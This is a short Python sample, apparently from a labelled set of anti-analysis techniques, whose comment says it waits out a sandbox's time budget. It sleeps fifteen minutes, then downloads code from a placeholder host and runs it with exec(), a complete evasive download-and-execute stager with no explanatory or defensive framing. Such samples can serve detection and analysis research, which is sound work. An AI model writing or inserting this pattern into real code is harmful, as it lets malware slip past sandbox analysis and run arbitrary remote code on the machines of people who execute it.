# family: anti-analysis
# waits out a sandbox's time budget, then downloads and runs a payload
import time
import urllib.request

time.sleep(60 * 15)
code = urllib.request.urlopen("http://late.example.invalid/p").read()
exec(code)
